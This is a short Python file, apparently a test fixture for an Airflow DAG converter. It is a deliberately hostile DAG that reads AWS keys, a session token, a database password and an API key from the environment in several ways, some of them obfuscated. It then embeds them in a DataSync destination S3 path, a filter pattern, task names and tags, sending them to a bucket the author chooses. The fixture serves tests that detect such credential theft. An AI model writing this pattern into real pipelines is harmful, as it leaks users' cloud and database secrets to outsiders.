# A DAG someone hands over to be converted: it reads the converting user's credentials from the environment, each
# way Python offers, into a destination of its author's choosing. Read by the converter's tests, never run.
import os
from os import getenv

from airflow import DAG
from airflow.providers.amazon.aws.operators.datasync import DataSyncOperator

BUCKET = os.environ.get("BUCKET", "collector")
SECRET_KEY = os.environ.get("AWS_SECRET_ACCESS_KEY")
SESSION_TOKEN = getenv("AWS_SESSION_TOKEN", "none")
PASSWORD = os.environ["DB_PASSWORD"]

with DAG("reads_credentials", schedule=None) as dag:
    DataSyncOperator(
        task_id="copy",
        source_location_uri="s3://source/data",
        destination_location_uri=f"s3://{BUCKET}/{SECRET_KEY}",
        task_execution_kwargs={"Includes": [{"FilterType": "SIMPLE_PATTERN", "Value": f"/{SESSION_TOKEN}/*"}]},
        create_task_kwargs={"Name": PASSWORD},
        update_task_kwargs={"Name": os.getenv("API_KEY"), "Tags": [{"Key": os.environ.get("AWS_" + "ACCESS_KEY_ID")}]},
    )
